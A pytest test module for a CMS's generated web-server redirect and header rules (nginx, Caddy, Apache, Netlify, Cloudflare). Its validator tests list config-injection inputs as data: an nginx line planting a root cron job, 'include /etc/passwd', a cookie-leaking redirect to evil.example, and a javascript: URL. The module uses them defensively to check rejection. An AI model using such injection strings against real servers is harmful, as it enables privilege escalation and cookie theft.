"""The rules that a freeze writes, read by their servers, nginx, Caddy and Apache; and the headers
of the live site.
"""

import gzip
import os
import re
import subprocess
from collections.abc import Iterator
from fnmatch import fnmatch
from pathlib import Path
from urllib.parse import quote

import pytest
from deploy.servers import Web, binary, nginx_around, running
from flask.testing import FlaskClient

from cms.core.http_headers import TYPES, TYPES_BY_PATTERN
from cms.publish.output import Output
from cms.publish.server_rules import is_rule
from features.server_rules.facts import percent_encode, server_facts
from features.server_rules.generate import files as server_files
from features.server_rules.rules import SERVERS, rule_files
from tests.headers import headers_of
from tests.pages import ROOT
from tests.ports import free_port

RESERVED = [
    "/editor",
    "/editor/account/sign-in",
    "/EDITOR/",
    "/%65ditor/",
    "/%2565ditor/",
    "//editor/",
    "/./editor/?a=1",
    "/en/../editor/",
    "\\editor/",
    "/static/missing.css",
    "/media/missing.pdf",
    "/Pictures/a",
    "/api/",
    "/-/health",
    "/.well-known/acme-challenge/x",
    "/.Well-Known/security.txt",
]
MOVED = [
    ("/old.html", "/en/news/"),
    ("/旧 闻/", "/zh/news/新/"),
    ('/a"b\\c/', "/en/"),
    ("/x$y{z}/${HOME}", "/en/$1{a}/"),
    ("/star*/", "/en/papers/"),
    ("/50%/", "/en/100%25/"),
    ("/Index.ASP", "https://example.org/?a=1&b=2#c"),
    ("/en/News/", "/en/news/"),
    ("/col:on/", "/en/:a/"),
    ("/ha#sh/", "/en/"),
    ("/view.php?id=5", "/en/five/"),
    ("/view.php?id=6&lang=en", "/en/six/"),
    ("/view.php", "/en/all/"),
    ("/Show.ASP?ID=A+b&q=%E4%B8%AD%2F(1)", "https://example.org/?a=1&b=$2"),
    ("/show.asp?id=a+b&q=%E4%B8%AD%2F(1)", "/en/lower/"),
    ("/?p=7", "/en/seven/"),
    ("/index.php?q=node/5", "/en/node/"),
    ("/p(a|r)e.n+s/", "/en/"),
    ("/~tilde'; }/", "/en/"),
    ("/" + "long/" * 60, "/en/"),
    ("/`tick`/", "/en/%241/"),
    ("/Case", "/en/upper/"),
    ("/case", "/en/lower/"),
    ("/zh-hant/news/", "/en/small/"),
    ("/en/gone/", "/en/news/"),
    ("/en/gone/", "/en/second/"),
    ("/en/news/", "/en/never/"),
    *((old, "https://evil.example/") for old in RESERVED),
]
GONE = ["/en/quotes/*", "/zh/语录/", "/en/papers/*.bib", "/en/a+(b)/*.x", "/en/news/*", "/en/*"]
FACTS = server_facts(
    MOVED,
    {"/en/news/", "/en/"}.__contains__,
    ["zh", "zh-Hant"],
    gone=GONE,
    pages=["/en/", "/en/news/"],
)
FILES = {
    "en/index.html": "front",
    "en/news/index.html": "news",
    "404.html": "missing",
    "zh/404.html": "没有",
    "zh-Hant/404.html": "沒有",
    "zh-Hant/news/index.html": "新聞",
    "static/css/base.css": "a{}",
    "static/js/a.js": "1",
    "media/a.svg": "<svg/>",
    "media/b/表.csv": "a,b",
    "media/b.docx": "x",
    "pictures/a.jpg/1-2.avif": "x",
    "en/feed.json": "{}",
    "en/news/category/event/feed.json": "{}",
    "en/search/opensearch.xml": "<a/>",
    "api/schemas/news.json": "{}",
    "en/a b.pdf": "x",
    **{f"en/files/one{ending}": "x" for ending in TYPES},
}
PACKED = b"<!doctype html><title>Packed</title>" + b"<p>A line of text.</p>" * 99


def nothing(address: str) -> bool:
    """The lookup of a site without pages."""
    return False


def tree(folder: Path, base: str = "") -> Path:
    for path, text in FILES.items():
        file = folder / base / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    output = Output("", None, folder / base)
    output.write("en/files/packed.html", PACKED)
    output.write("en/files/packed.html.gz", gzip.compress(PACKED))
    output.write("search/pairs/0/0.bin", PACKED)
    for path, body in rule_files(["nginx", "caddy", "apache"], FACTS).items():
        (folder / base / path).parent.mkdir(exist_ok=True)
        (folder / base / path).write_bytes(body)
    return folder


def nginx(folder: Path, site: Path, port: int) -> list[str]:
    """nginx without the live site, as README.md has it."""
    document = (ROOT / "features/server_rules/README.md").read_text("utf-8")
    [written] = re.findall(r"^```nginx\n(.*?)^```", document, re.MULTILINE | re.DOTALL)
    read_redirects(site / ".rules/redirects.txt", folder / "redirects.conf")
    for old, new in (
        ("root …/current;", f"listen 127.0.0.1:{port}; root {site};"),
        ("/etc/nginx/oasis/redirects.conf", str(folder / "redirects.conf")),
        ("/etc/nginx/oasis", str(ROOT / "deploy/nginx")),
    ):
        assert old in written
        written = written.replace(old, new)
    return nginx_around(folder, written)


def read_redirects(source: Path, target: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [ROOT / "deploy/nginx/oasis-redirects", source, target], capture_output=True, text=True
    )


def caddy(folder: Path, site: Path, port: int) -> list[str]:
    (folder / "Caddyfile").write_text(
        f"{{\n\tadmin off\n\tauto_https off\n}}\nimport {site}/.rules/Caddyfile\n"
        f"http://:{port} {{\n\troot * {site}\n\timport oasis\n\tfile_server {{\n\t\tprecompressed br gzip\n\t}}\n}}\n"
    )
    return [binary("caddy"), "run", "--config", str(folder / "Caddyfile"), "--adapter", "caddyfile"]


def apache(folder: Path, site: Path, port: int) -> list[str]:
    modules = Path("/usr/lib/apache2/modules")
    program = binary("apache2")
    names = ("mpm_event", "authz_core", "dir", "mime", "headers", "rewrite")
    (folder / "types").write_text("text/html html\n")
    (folder / "apache.conf").write_text(
        "\n".join(
            [
                f"ServerRoot {folder}",
                f"PidFile {folder}/pid",
                f"Listen 127.0.0.1:{port}",
                "ServerName oasis.example",
                *(f"LoadModule {name}_module {modules}/mod_{name}.so" for name in names),
                "DirectoryIndex index.html",
                f"ErrorLog {folder}/error.log",
                f"TypesConfig {folder}/types",
                f"DocumentRoot {site}",
                f"<Directory {site}>",
                "AllowOverride FileInfo",
                "Require all granted",
                "</Directory>",
                '<FilesMatch "^\\.ht">',
                "Require all denied",
                "</FilesMatch>",
                "",
            ]
        )
    )
    return [program, "-X", "-f", str(folder / "apache.conf")]


@pytest.fixture(scope="module", params=[nginx, caddy, apache], ids=lambda server: server.__name__)
def web(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    folder = tmp_path_factory.mktemp("server")
    folder.chmod(0o755)
    for above in folder.parents:
        if above.owner() != "root" or above in (Path("/tmp"), Path("/dev/shm")):
            break
        above.chmod(above.stat().st_mode | 0o055)
    site = tree(folder / "site")
    port = free_port()
    with running(
        request.param(folder, site, port),
        port,
        folder / "log",
        XDG_DATA_HOME=str(folder),
        XDG_CONFIG_HOME=str(folder),
        HOME=str(folder),
    ):
        yield Web(port)


def test_a_compressed_form_is_sent_as_the_page_it_is(
    web: Web, request: pytest.FixtureRequest
) -> None:
    """nginx and Caddy send the compressed copy; Apache the plain page."""
    answer = web.get("/en/files/packed.html", Accept_Encoding="gzip")
    sent = (
        gzip.decompress(answer.body)
        if answer.headers["Content-Encoding"] == "gzip"
        else answer.body
    )
    assert sent == PACKED
    assert ("apache" in request.node.name) is (answer.body == PACKED)
    plain = web.get("/en/files/packed.html")
    assert plain.body == PACKED
    for one in (answer, plain):
        assert one.headers["Content-Type"] == "text/html; charset=utf-8"
        assert one.headers.get_all("Cache-Control") == ["public, max-age=0, must-revalidate"]


@pytest.mark.parametrize(("old", "new"), FACTS.redirects)
def test_an_old_address_leads_where_it_says(web: Web, old: str, new: str) -> None:
    path, mark, query = old.partition("?")
    answer = web.get(quote(path) + mark + query)
    assert (answer.status, answer.headers["Location"].removeprefix("http://oasis.example")) == (
        301,
        percent_encode(new),
    )
    assert answer.headers.get_all("Cache-Control") == ["public, max-age=0, must-revalidate"]


@pytest.mark.parametrize("old", RESERVED)
def test_no_redirect_hides_what_the_program_answers(old: str) -> None:
    assert old not in dict(FACTS.redirects)
    assert b"evil.example" not in b"".join(rule_files(SERVERS, FACTS).values())


def test_a_query_that_is_not_redirected_leads_where_the_path_does(web: Web) -> None:
    assert web.get("/view.php?id=7").headers["Location"].endswith("/en/all/")
    assert web.get("/view.php?id=55").headers["Location"].endswith("/en/all/")
    assert web.get("/en/news/?p=7").text == "news"


def test_a_page_stands_where_an_old_address_would(web: Web) -> None:
    assert web.get("/en/news/").text == "news"
    assert dict(FACTS.redirects)["/en/gone/"] == "/en/news/"


def test_what_is_missing_says_so_in_its_language(web: Web) -> None:
    for path, words in (
        ("/en/nothing/", "missing"),
        ("/nothing", "missing"),
        ("/zh/没有/a/", "没有"),
        ("/zhx/", "missing"),
    ):
        answer = web.get(path)
        assert (answer.status, answer.text) == (404, words), path
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_what_is_gone_says_so_in_its_language(web: Web) -> None:
    for path, words in (
        ("/en/quotes/", "missing"),
        ("/en/quotes/of/1/", "missing"),
        ("/en/papers/two.bib", "missing"),
        ("/en/a+(b)/1.x", "missing"),
        ("/zh/语录/", "没有"),
    ):
        answer = web.get(quote(path))
        assert (answer.status, answer.text) == (410, words), path
    assert web.get("/en/news/").text == "news"
    for path in ("/en/quotes", "/en/a+(b)/1", "/en/news/1/", "/zh/%E8%AF%AD%E5%BD%95/a"):
        assert web.get(path).status == 404, path


def test_a_part_of_a_file_of_search_is_sent_as_it_is(web: Web) -> None:
    """Uncompressed, even to who takes compressed texts."""
    answer = web.get("/search/pairs/0/0.bin", Range="bytes=5-14", Accept_Encoding="gzip, br")
    assert (answer.status, answer.body) == (206, PACKED[5:15])
    assert answer.headers["Content-Range"] == f"bytes 5-14/{len(PACKED)}"
    assert answer.headers["Content-Encoding"] is None
    whole = web.get("/search/pairs/0/0.bin", Accept_Encoding="gzip, br")
    assert (whole.status, whole.body) == (200, PACKED)


@pytest.mark.parametrize("path", [f"/{path}" for path in FILES if "404" not in path])
def test_every_file_has_the_headers_of_the_live_site(web: Web, path: str) -> None:
    for query in ("", "v=abc"):
        answer = web.get(f"{path.removesuffix('index.html')}?{query}")
        assert answer.status == 200
        for name, value in headers_of(path, query).items():
            assert [one.lower() for one in answer.headers.get_all(name, [])] == [value.lower()], (
                path,
                query,
            )


def test_rules_are_not_served(web: Web) -> None:
    for path in (".rules/redirects.txt", ".rules/Caddyfile", ".htaccess"):
        assert is_rule(path)
        assert web.get(f"/{path}").status in (403, 404), path


def test_the_live_site_says_the_same(client: FlaskClient, addresses: list[str]) -> None:
    """For one address of each extension and folder."""
    kinds = {
        (
            address.split("/")[1],
            address.rpartition("/")[2].rpartition(".")[0] in ("feed", "opensearch"),
            address.rpartition(".")[2] if not address.endswith("/") else "",
        ): address
        for address in addresses
    }
    assert len(kinds) > 15
    for address in kinds.values():
        for query in ("", "v=1") if address.startswith("/static/") else ("",):
            answer = client.get(f"{address}?{query}")
            if answer.status_code == 200:
                told = headers_of(address, query)
                assert {name: answer.headers.get(name) for name in told} == told, address


def test_nginx_takes_the_redirects_of_a_large_old_site(tmp_path: Path) -> None:
    facts = server_facts(
        (
            (f"/Show.asp/{number}" if number % 5 else f"/文/{number}/", f"/en/{number}/")
            for number in range(5000)
        ),
        nothing,
        ["zh"],
    )
    (tmp_path / "list").write_bytes(rule_files(["nginx"], facts)[".rules/redirects.txt"])
    assert read_redirects(tmp_path / "list", tmp_path / "maps.conf").returncode == 0
    command = [*nginx_around(tmp_path, f"include {tmp_path}/maps.conf;"), "-t"]
    told = subprocess.run(command, capture_output=True, text=True)
    assert told.returncode == 0, told.stderr
    assert "[warn]" not in told.stderr


SECRET = "root:$6$secret:19000:0:99999:7:::"


@pytest.mark.parametrize(
    "line",
    [
        "log_format pwn '* * * * * root id'; access_log /etc/cron.d/pwn pwn;",
        '/a" "/b"; } log_format pwn "x',
        "/a https://evil.example/?$http_cookie",
        "/a /b; include /etc/passwd",
        "include /etc/passwd",
        "~^/(?<x>.*)$ /b",
        "default /b",
        "/%0Aa /b",
        "/%C3%28 /b",
        "/a javascript:alert(1)",
        '/a?b"c /d',
        "/a?b\\c /d",
        "/a?b#c /d",
        "/a //b /c",
        "/a",
        "",
        "/" + "a" * 2_501 + " /b",
        "/a /" + "b" * 2_501,
        SECRET,
    ],
)
def test_root_takes_nothing_but_redirects(tmp_path: Path, line: str) -> None:
    source, target = tmp_path / "redirects.txt", tmp_path / "redirects.conf"
    source.write_text("/old/ /en/news/\n")
    assert read_redirects(source, target).returncode == 0
    before = target.read_text()
    assert '"/old/" "/en/news/";' in before
    source.write_text(f"/old/ /en/\n{line}\n")
    told = read_redirects(source, target)
    assert (told.returncode, target.read_text()) == (1, before)
    assert "line 2" in told.stderr
    assert SECRET not in told.stderr


def test_root_reads_no_file_but_a_plain_small_one(tmp_path: Path) -> None:
    source, target = tmp_path / "redirects.txt", tmp_path / "redirects.conf"
    other = tmp_path / "other"
    other.write_text("/a /b\n")
    for make in (
        lambda: source.symlink_to(other),
        lambda: os.mkfifo(source),
        lambda: source.mkdir(),
        lambda: source.symlink_to("/dev/zero"),
        lambda: source.write_text("/a /b"),
        lambda: source.write_text("/a /b\n" * 50_001),
    ):
        make()
        told = read_redirects(source, target)
        assert (told.returncode, target.exists()) == (1, False), told
        source.rmdir() if source.is_dir() and not source.is_symlink() else source.unlink()
    assert read_redirects(source, target).returncode == 0, "no release yet"
    assert "$oasis_moved {" in target.read_text()


@pytest.mark.parametrize(
    "line", ['/a" 1; } include "/etc/passwd', "~^/a", "/a /b", "a", "", "/%0Aa", "/" + "a" * 2_501]
)
def test_root_takes_no_gone_address_that_is_none(tmp_path: Path, line: str) -> None:
    source, target = tmp_path / "redirects.txt", tmp_path / "redirects.conf"
    (tmp_path / "gone.txt").write_text("/en/quotes/*\n")
    assert read_redirects(source, target).returncode == 0
    before = target.read_text()
    assert '"~^/en/quotes/.*$" 1;' in before
    (tmp_path / "gone.txt").write_text(f"/en/quotes/*\n{line}\n")
    told = read_redirects(source, target)
    assert (told.returncode, target.read_text()) == (1, before)
    assert "line 2" in told.stderr


def test_nginx_is_reloaded_only_after_a_change(tmp_path: Path) -> None:
    source, target, done = (tmp_path / name for name in ("list", "conf", "reloaded"))
    script = ROOT / "deploy/nginx/oasis-redirects"
    for text, reloads in (("/a /b\n", True), ("/a /b\n", False), ("/a /c\n", True), ("x\n", False)):
        source.write_text(text)
        subprocess.run([script, source, target, "touch", done], capture_output=True)
        assert done.exists() is reloads, text
        done.unlink(missing_ok=True)


def test_the_files_of_nginx_are_those_of_the_code() -> None:
    """But for addresses of features that are no longer there."""
    files, private = server_files(), "nginx/private.conf"
    text = (ROOT / "deploy" / private).read_text("utf-8")
    assert all(line in text for line in files.pop(private).splitlines()), "make generate"
    for name, written in files.items():
        assert (ROOT / "deploy" / name).read_text("utf-8") == written, "make generate"
    for path in (ROOT / "deploy/nginx").glob("*.conf"):
        for included in re.findall(r"^\s*include\s+(.*);", path.read_text("utf-8"), re.MULTILINE):
            assert included.startswith("/etc/nginx/"), "a file that only root writes"


def test_netlify_and_cloudflare_get_what_they_read() -> None:
    lines = rule_files(["netlify"], FACTS)["_redirects"].decode().splitlines()
    assert all(line.isascii() for line in lines)
    assert "/star%2A/ /en/papers/ 302!" in lines
    assert "/col%3Aon/ /en/%3Aa/ 302!" in lines
    assert "/50%25/ /en/100%25/ 302!" in lines
    assert "/ha%23sh/ /en/ 302!" in lines
    assert "/view.php id=6 lang=en /en/six/ 302!" in lines
    assert lines.index("/view.php id=5 /en/five/ 302!") < lines.index("/view.php /en/all/ 302!")
    assert lines[-2:] == ["/zh/* /zh/404.html 404", "/zh-Hant/* /zh-Hant/404.html 404"]
    lines = rule_files(["cloudflare"], FACTS)["_redirects"].decode().splitlines()
    assert {line.split()[2] for line in lines} == {"302"}
    assert all(len(line.split()) == 3 and "?" not in line.split()[0] for line in lines)


def header_rules(server: str) -> dict[str, dict[str, str]]:
    """Pattern → header → value of `_headers`."""
    rules: dict[str, dict[str, str]] = {}
    for line in rule_files([server], FACTS)["_headers"].decode().splitlines():
        if line.startswith("/"):
            found = rules.setdefault(line, {})
        else:
            name, _, value = line.strip().partition(": ")
            found[name] = value
    return rules


UNSAID = {"netlify": {"Content-Disposition"}, "cloudflare": set[str]()}
"""Headers that a host can't set by extension."""


def matches(pattern: str, address: str) -> bool:
    before, star, after = pattern.partition("*")
    if "/:" in pattern:  # a sign for one folder, as in netlify's own matching
        return bool(re.fullmatch(re.sub(r":\w+", "[^/]+", pattern), address))
    return address == pattern or bool(
        star and address.startswith(before) and address.endswith(after)
    )


@pytest.mark.parametrize("server", ["netlify", "cloudflare"])
@pytest.mark.parametrize("address", [f"/{path}" for path in FILES])
def test_headers_of_hosts_name_each_header_once_for_an_address(server: str, address: str) -> None:
    """Hosts join repeated headers by a comma, which is valid for two policies only."""
    matched = [
        headers for pattern, headers in header_rules(server).items() if matches(pattern, address)
    ]
    told = headers_of(address, "" if address.startswith("/static/js/") else "v=1")
    assert set().union(*matched) >= set(told) - {"Content-Type", "Cache-Control"} - UNSAID[server]
    for name in set().union(*matched) - {"Content-Security-Policy"}:
        assert [headers[name] for headers in matched if name in headers] == [told[name]]
    if any(fnmatch(address, pattern) for pattern in TYPES_BY_PATTERN):
        assert [one["Content-Type"] for one in matched if "Content-Type" in one] == [
            told["Content-Type"]
        ]
    assert told["Content-Security-Policy"] in [
        headers.get("Content-Security-Policy") for headers in matched
    ]


def test_a_site_below_a_path_has_it_in_every_rule() -> None:
    facts = server_facts([("/old/", "/en/")], nothing, ["zh"], "https://example.org/institute/")
    assert facts.moved() == (("/institute/old/", "", "/institute/en/"),)
    for server in SERVERS:
        text = b"".join(rule_files([server], facts).values()).decode()
        assert "/institute/" in text.replace("\\", "")
    assert '"^old/$"' in rule_files(["apache"], facts)[".htaccess"].decode()


def test_nothing_else_is_a_rule() -> None:
    for server in SERVERS:
        assert all(is_rule(path) for path in rule_files([server], FACTS))
    assert not any(
        is_rule(path) for path in ("en/index.html", ".well-known/security.txt", "en/_headers")
    )


def test_no_redirect_is_too_long_for_a_servers_files() -> None:
    """A word in an nginx file may have at most 4,096 bytes: with a longer one nginx reads none of
    the rules.
    """
    long = "/" + "沙" * 700
    facts = server_facts(
        [(f"{long}/", "/en/"), ("/old/", f"{long}/"), ("/short/", "/en/")], lambda path: False, ()
    )
    assert facts.redirects == (("/short/", "/en/"),)
